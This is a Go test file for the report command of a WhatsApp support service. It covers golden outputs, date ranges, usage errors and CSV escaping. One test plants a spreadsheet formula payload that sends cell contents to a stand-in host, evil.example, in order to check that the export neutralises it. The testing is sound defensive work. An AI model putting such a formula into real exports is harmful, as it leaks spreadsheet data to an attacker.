package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"suporte/store"
)

// The report fixture and the golden outputs live with the store's report
// tests, which check the same figures one by one.
const reportTestdata = "../../store/testdata/report"

// The goldens are rewritten with -update. Another test file of the package
// may define that flag too; it is defined here only if none did.
func init() {
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite golden files")
	}
}

func updateGolden() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

// reportData makes a data folder whose store holds the report fixture.
func reportData(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "suporte.db")
	db, err := store.Open(context.Background(), path) // the schema
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	script, err := os.ReadFile(filepath.Join(reportTestdata, "fixture.sql"))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := sql.Open("sqlite3", path)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	if _, err := raw.Exec(string(script)); err != nil {
		t.Fatalf("fixture: %v", err)
	}
	return dir
}

func runReportArgs(t *testing.T, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	var out, errb bytes.Buffer
	err = runReport(context.Background(), args, nil, &out, &errb)
	return out.String(), errb.String(), err
}

// The fixture's week, with the shipped flows (Natal closed), as of 4 Jan.
func fixtureArgs(data string, more ...string) []string {
	return append([]string{"--data", data, "--flows", "../../flows.yaml",
		"--from", "2026-12-21", "--to", "2026-12-27", "--at", "2027-01-04T12:00:00-03:00"}, more...)
}

func TestReportGolden(t *testing.T) {
	data := reportData(t)
	for _, format := range []string{"table", "json", "csv"} {
		t.Run(format, func(t *testing.T) {
			got, stderr, err := runReportArgs(t, fixtureArgs(data, "--format", format)...)
			if err != nil {
				t.Fatalf("report: %v\n%s", err, stderr)
			}
			golden := filepath.Join(reportTestdata, "report."+format+".golden")
			if updateGolden() {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("report --format %s differs from %s (go test -update to accept):\n%s", format, golden, got)
			}
		})
	}
}

// TestReportJSONFigures reads a few figures back from the JSON, so the
// golden files cannot drift from the answers worked out in the store's
// tests: the real calendar gives what the store tests' fake one gives.
func TestReportJSONFigures(t *testing.T) {
	out, stderr, err := runReportArgs(t, fixtureArgs(reportData(t), "--format", "json")...)
	if err != nil {
		t.Fatalf("report: %v\n%s", err, stderr)
	}
	var r store.Report
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatal(err)
	}
	if r.Conversations != 15 || r.OutsideHours != 5 {
		t.Errorf("conversations %d, outside hours %d; want 15 and 5 (Natal is closed)", r.Conversations, r.OutsideHours)
	}
	if w := r.Queue.WaitBusiness; w.Median != 5*time.Minute || w.P90 != 18*time.Minute {
		t.Errorf("business wait %+v; want median 5m, p90 18m", w)
	}
	if w := r.Queue.WaitWall; w.P90 != 15*time.Hour+18*time.Minute {
		t.Errorf("wall wait %+v; want p90 15h18m", w)
	}
	if len(r.Trails) != 4 || r.Trails[0].Title != "Acesso e senha" || r.Trails[3].Title != "" {
		t.Errorf("trails %+v; want 4, titled from flows.yaml, the removed one untitled", r.Trails)
	}
	if e := r.Escalations; e != (store.Escalations{Escalated: 4, Met: 1, Late: 1, Overdue: 1, WithinDeadline: 1}) {
		t.Errorf("escalations %+v", e)
	}
}

func TestReportRange(t *testing.T) {
	sp, err := time.LoadLocation("America/Sao_Paulo")
	if err != nil {
		t.Fatal(err)
	}
	// 22:30 on 4 Jan in São Paulo, already the 5th in UTC: today is the 4th.
	now := time.Date(2027, 1, 4, 22, 30, 0, 0, sp)
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, sp) }
	tests := []struct {
		name, from, to string
		wantFrom       time.Time
		wantTo         time.Time
	}{
		{"default: the last 30 days with today", "", "", day(2026, 12, 6), day(2027, 1, 5)},
		{"only from: up to today", "2026-12-21", "", day(2026, 12, 21), day(2027, 1, 5)},
		{"only to: 30 days ending then", "", "2026-12-31", day(2026, 12, 2), day(2027, 1, 1)},
		{"one day", "2026-12-25", "2026-12-25", day(2026, 12, 25), day(2026, 12, 26)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			from, to, err := reportRange(tt.from, tt.to, now, sp)
			if err != nil || !from.Equal(tt.wantFrom) || !to.Equal(tt.wantTo) {
				t.Errorf("reportRange(%q, %q) = %v, %v, %v; want %v, %v", tt.from, tt.to, from, to, err, tt.wantFrom, tt.wantTo)
			}
		})
	}
	for _, bad := range [][2]string{{"2026-12-22", "2026-12-21"}, {"21/12/2026", ""}, {"", "2026-13-01"}} {
		if _, _, err := reportRange(bad[0], bad[1], now, sp); err == nil {
			t.Errorf("reportRange(%q, %q): no error; want one", bad[0], bad[1])
		}
	}
}

func TestReportUsage(t *testing.T) {
	data := reportData(t)
	tests := []struct {
		name string
		args []string
		want string // in stderr
	}{
		{"bad format", fixtureArgs(data, "--format", "xml"), `--format "xml"`},
		{"bad day", []string{"--data", data, "--flows", "../../flows.yaml", "--from", "ontem"}, `--from "ontem"`},
		{"from after to", []string{"--data", data, "--flows", "../../flows.yaml", "--from", "2026-12-28", "--to", "2026-12-27"}, "is after"},
		{"bad at", fixtureArgs(data, "--at", "amanhã"), `--at "amanhã"`},
		{"argument", fixtureArgs(data, "extra"), `unexpected argument "extra"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, stderr, err := runReportArgs(t, tt.args...)
			if !errors.Is(err, errUsage) || !strings.Contains(stderr, tt.want) {
				t.Errorf("got %v, stderr %q; want errUsage saying %q", err, stderr, tt.want)
			}
		})
	}
}

func TestReportNoDatabase(t *testing.T) {
	dir := t.TempDir()
	_, _, err := runReportArgs(t, "--data", dir, "--flows", "../../flows.yaml")
	if err == nil || !strings.Contains(err.Error(), "no database") {
		t.Errorf("got %v; want no database", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "suporte.db")); err == nil {
		t.Error("the report created a database")
	}
}

func TestReportDuration(t *testing.T) {
	tests := []struct {
		n    int
		d    time.Duration
		want string
	}{
		{0, 0, "-"},
		{1, 0, "0s"},
		{1, 45 * time.Second, "45s"},
		{1, 8 * time.Minute, "8min"},
		{1, 90 * time.Second, "1min30s"},
		{1, 15*time.Hour + 18*time.Minute, "15h18min"},
		{1, 9 * time.Hour, "9h"},
		{1, 50*time.Hour + 10*time.Minute, "2d2h"},
	}
	for _, tt := range tests {
		if got := reportDuration(tt.n, tt.d); got != tt.want {
			t.Errorf("reportDuration(%d, %v) = %q; want %q", tt.n, tt.d, got, tt.want)
		}
	}
}

// TestReportBesideService reads the store while another process of the
// service holds it open, as a manager would on the server.
func TestReportBesideService(t *testing.T) {
	data := reportData(t)
	svc, err := store.Open(context.Background(), filepath.Join(data, "suporte.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer svc.Close()
	if _, stderr, err := runReportArgs(t, fixtureArgs(data, "--format", "json")...); err != nil {
		t.Fatalf("report beside the service: %v\n%s", err, stderr)
	}
}

// TestReportTableEmpty covers what the fixture's golden cannot: a period
// with no trails, no agents and no ratings.
func TestReportTableEmpty(t *testing.T) {
	day := time.Date(2026, 12, 21, 0, 0, 0, 0, time.UTC)
	r := store.Report{From: day, To: day.AddDate(0, 0, 1), AsOf: day.Add(12 * time.Hour), Location: "UTC",
		Days: []store.Day{{Date: "2026-12-21"}}}
	var got bytes.Buffer
	if err := writeReportTable(&got, r, nil); err != nil {
		t.Fatal(err)
	}
	const want = `Relatório do atendimento pelo WhatsApp
Período: 21/12/2026 a 21/12/2026 (UTC)
Situação em 21/12/2026 12:00

CONVERSAS
  Total                             0
  Dentro do horário de atendimento  0
  Fora do horário de atendimento    0

  Dia        Conversas  Fora do horário
  seg 21/12  0          0

TRILHAS
útil: X de Y = das Y vezes em que a trilha chegou ao fim (o bot perguntou "resolveu?"), X o cliente disse que sim e avaliou.
Nenhuma trilha lida no período.

FILA DE ATENDIMENTO
  Entraram na fila             0
  Atendidos por um Encantador  0
  Desistiram                   0
  Ainda esperando              0

  Espera até ser atendido    Mediana  90% até
  Tempo corrido              -        -
  Em horário de atendimento  -        -

ENCANTADORES
Tempos em horário de atendimento, medianas. 1ª resposta: da aceitação à primeira mensagem; atendimento: da aceitação à resolução (sem os escalados).
Nenhum atendimento no período.

SATISFAÇÃO (CSAT, notas de 1 a 5)
  Média   -
  Nota 5  0
  Nota 4  0
  Nota 3  0
  Nota 2  0
  Nota 1  0

ESCALADOS PARA O TIME DE PRODUTO (prazo prometido ao cliente)
  Escalados                  0
  Resolvidos no prazo        0
  Resolvidos com atraso      0
  Abertos com prazo vencido  0
  Abertos dentro do prazo    0

FRASES QUE O BOT NÃO ENTENDEU
O que os clientes escreveram e o bot respondeu com "não entendi" (sem acentos nem pontuação), das mais escritas. Boas candidatas a exemplos (examples) no flows.yaml.
Nenhuma no período.

FRASES EM QUE O BOT PERGUNTOU O ASSUNTO
O que os clientes escreveram e o bot respondeu com "É sobre...?", e o que escolheram. Uma frase que os clientes confirmam sempre é uma boa candidata a exemplo (examples) do nó escolhido.
Nenhuma no período.

ARQUIVOS (fotos, áudios, documentos...)
Pelo dia em que chegaram ou foram enviados. Não recebidos: acima dos limites, ou o download não deu certo (o chamado diz o motivo).
  Tipo           Recebidos  Enviados
  Não recebidos  0
`
	if got.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", got.String(), want)
	}
}

// A name or a title a spreadsheet would run as a formula is written as
// text (a leading quote); figures stay numbers.
func TestReportCSVFormulas(t *testing.T) {
	data := reportData(t)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Bruno")`
	raw, err := sql.Open("sqlite3", filepath.Join(data, "suporte.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	if _, err := raw.Exec(`UPDATE agents SET name = ? WHERE id = (SELECT min(id) FROM agents)`, evil); err != nil {
		t.Fatal(err)
	}
	src, err := os.ReadFile("../../flows.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const title, tricky = "    title: Acesso e senha\n", "    title: \"@Acesso e senha\"\n"
	if bytes.Count(src, []byte(title)) != 1 {
		t.Fatalf("flows.yaml has no single %q", title)
	}
	fl := filepath.Join(t.TempDir(), "flows.yaml")
	if err := os.WriteFile(fl, bytes.Replace(src, []byte(title), []byte(tricky), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	out, stderr, err := runReportArgs(t, "--data", data, "--flows", fl, "--from", "2026-12-21", "--to", "2026-12-27",
		"--at", "2027-01-04T12:00:00-03:00", "--format", "csv")
	if err != nil {
		t.Fatalf("report: %v\n%s", err, stderr)
	}
	r := csv.NewReader(strings.NewReader(out))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	numbers := 0
	for _, row := range rows {
		for _, cell := range row {
			seen[cell] = true
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				numbers++
				continue
			}
			if len(cell) > 1 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	for _, want := range []string{"'" + evil, "'@Acesso e senha"} {
		if !seen[want] {
			t.Errorf("no cell %q in:\n%s", want, out)
		}
	}
	if numbers == 0 {
		t.Error("no figure left as a number")
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"Bruno", "Bruno"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+5511999990000 ligou", "'+5511999990000 ligou"},
		{"-x", "'-x"},
		{"-", "-"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"-0.2500", "-0.2500"},
		{"42", "42"},
		{"2026-12-21", "2026-12-21"},
	} {
		if got := spreadsheetSafe(tt.in); got != tt.want {
			t.Errorf("spreadsheetSafe(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}
